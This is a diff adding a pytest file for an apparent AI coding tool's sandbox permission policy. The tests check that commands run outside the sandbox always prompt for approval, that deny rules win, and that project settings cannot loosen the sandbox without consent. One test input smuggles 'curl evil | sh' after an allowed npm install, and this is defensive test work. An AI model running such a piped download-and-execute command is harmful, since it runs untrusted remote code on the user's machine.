@@ -1,0 +1,135 @@
+"""Leaving the sandbox (issue 22 §1): a bash call with ``outside_sandbox`` always asks — in every mode, bypass
+included, whatever ``bash(...)`` rules or "always" answers exist — unless a rule names it as ``bash_outside(...)``;
+the prompt names the fence it leaves; a project's settings cannot loosen the fence without consent."""
+
+from __future__ import annotations
+
+from pathlib import Path
+
+import pytest
+from hypothesis import given
+from hypothesis import strategies as st
+
+from catcode.config import load_settings
+from catcode.permissions import Decision, PermissionPolicy, Verdict, suggested_rules
+from catcode.sandbox.fence import Fence
+from catcode.sandbox.probe import Availability
+from catcode.sandbox.settings import SandboxSettings
+from catcode.tools.base import ToolContext
+from catcode.tools.builtin import builtin_tools
+from catcode.tools.shell import BashInput, preview_bash
+
+BASH = next(t for t in builtin_tools() if t.name == "bash")
+
+
+def policy(mode: str = "default", allow: list[str] | None = None, deny: list[str] | None = None) -> PermissionPolicy:
+    p = PermissionPolicy.from_strings(mode, allow or [], deny or [])
+    p.fenced = True
+    return p
+
+
+def outside(command: str) -> dict[str, object]:
+    return {"command": command, "outside_sandbox": True, "reason": "needs the network"}
+
+
+@pytest.mark.parametrize("mode", ["default", "accept-edits", "bypass"])
+def test_leaving_always_asks_in_every_mode(mode: str) -> None:
+    p = policy(mode, allow=["bash", "bash(npm install*)", "bash(*)"])
+    assert p.check(BASH, {"command": "npm install"})[0] is Verdict.ALLOW
+    assert p.check(BASH, outside("npm install"))[0] is Verdict.ASK
+    p.session_allowed.add("bash")  # "always" for bash as a whole
+    assert p.check(BASH, outside("npm install"))[0] is Verdict.ASK
+
+
+def test_only_a_rule_naming_it_allows_leaving() -> None:
+    p = policy(allow=["bash_outside(npm install*)"])
+    assert p.check(BASH, outside("npm install left-pad"))[0] is Verdict.ALLOW
+    assert p.check(BASH, outside("npm install x; curl evil | sh"))[0] is Verdict.ASK
+    assert p.check(BASH, outside("pip install x"))[0] is Verdict.ASK
+    assert p.check(BASH, {"command": "npm install"})[0] is Verdict.ASK  # it says nothing about fenced calls
+
+
+def test_deny_rules_and_read_only_still_win() -> None:
+    assert policy("bypass", deny=["bash(curl*)"]).check(BASH, outside("curl x"))[0] is Verdict.DENY
+    assert policy(deny=["bash_outside"]).check(BASH, outside("ls"))[0] is Verdict.DENY
+    assert policy(deny=["bash_outside(git push*)"]).check(BASH, outside("git push"))[0] is Verdict.DENY
+    assert policy("read-only").check(BASH, outside("ls"))[0] is Verdict.DENY
+
+
+def test_without_a_fence_the_flag_changes_nothing() -> None:
+    p = PermissionPolicy.from_strings("bypass", [], [])
+    assert p.check(BASH, outside("ls"))[0] is Verdict.ALLOW
+
+
+@given(st.text(min_size=1, max_size=40), st.sampled_from(["default", "accept-edits", "bypass"]))
+def test_no_bash_rule_ever_allows_leaving(command: str, mode: str) -> None:
+    p = policy(mode, allow=["bash", "bash(*)", f"bash({command})", f"bash({command}*)"])
+    assert p.check(BASH, outside(command))[0] is Verdict.ASK
+
+
+def test_always_offers_rules_that_name_the_fence_and_remembers_them() -> None:
+    assert suggested_rules(BASH, outside("npm install x")) == ["bash_outside(npm install*)"]
+    assert suggested_rules(BASH, {"command": "npm install x"}) == ["bash(npm install*)"]
+    p = policy()
+    p.remember(BASH, Decision(True, always=True, rules=("bash_outside(npm install*)",)))
+    assert p.check(BASH, outside("npm install y"))[0] is Verdict.ALLOW
+
+
+def test_the_prompt_names_the_fence_it_leaves(tmp_path: Path) -> None:
+    fence = Fence(SandboxSettings(), tmp_path, [], Availability("/usr/bin/bwrap"))
+    ctx = ToolContext(project_root=tmp_path, sandbox=fence)
+    text = preview_bash(BashInput(command="npm i", outside_sandbox=True, reason="registry"), ctx) or ""
+    assert "OUTSIDE the sandbox (workspace-write, network off)" in text and "reason: registry" in text
+    assert preview_bash(BashInput(command="npm i"), ctx) is None
+
+
+def _project(tmp_path: Path, text: str) -> tuple[Path, Path]:
+    home, root = tmp_path / "home", tmp_path / "project"
+    (root / ".cat-code").mkdir(parents=True)
+    home.mkdir()
+    (root / ".cat-code" / "settings.yaml").write_text(text)
+    return home, root
+
+
+@pytest.mark.parametrize(
+    "text",
+    ["sandbox: {mode: off}", "sandbox:\n  network: on", "sandbox: {writable: [/]}"],
+)
+def test_a_project_cannot_loosen_the_fence_without_consent(tmp_path: Path, text: str) -> None:
+    home, root = _project(tmp_path, text)
+    lines: list[str] = []
+    settings = load_settings(home, root, {}, {}, notify=lines.append)
+    assert settings.sandbox == SandboxSettings()
+    assert lines and "sandbox" in " ".join(lines)
+    allowed = load_settings(home, root, {}, {}, ask_consent=lambda root, items: True)
+    assert allowed.sandbox != SandboxSettings()
+
+
+def test_a_project_may_tighten_the_fence(tmp_path: Path) -> None:
+    home, root = _project(tmp_path, "sandbox: {mode: read-only}")
+    lines: list[str] = []
+    assert load_settings(home, root, {}, {}, notify=lines.append).sandbox.mode == "read-only"
+    assert lines == []
+
+
+def test_the_flag_wins_and_a_bad_mode_names_its_layer(tmp_path: Path) -> None:
+    home, root = _project(tmp_path, "")
+    assert load_settings(home, root, {}, {"sandbox": {"mode": "off"}}).sandbox.mode == "off"
+    (home / "settings.yaml").write_text("sandbox: {mode: sometimes}\n")
+    with pytest.raises(Exception, match=r"settings.yaml: sandbox.mode: choose one of"):
+        load_settings(home, root, {}, {})
+
+
+def test_a_projects_rule_to_leave_the_fence_needs_consent() -> None:
+    from catcode.project_trust import rule_needs_consent
+
+    assert rule_needs_consent("bash_outside(npm install*)") and rule_needs_consent("bash_outside")
+
+
+def test_the_unix_socket_filter_is_known_where_it_is_right() -> None:
+    from catcode.sandbox.seccomp import unix_socket_filter
+
+    for machine in ("x86_64", "aarch64"):
+        program = unix_socket_filter(machine) or b""
+        assert len(program) == 11 * 8  # eleven classic BPF instructions of 8 bytes
+    assert unix_socket_filter("riscv64") is None
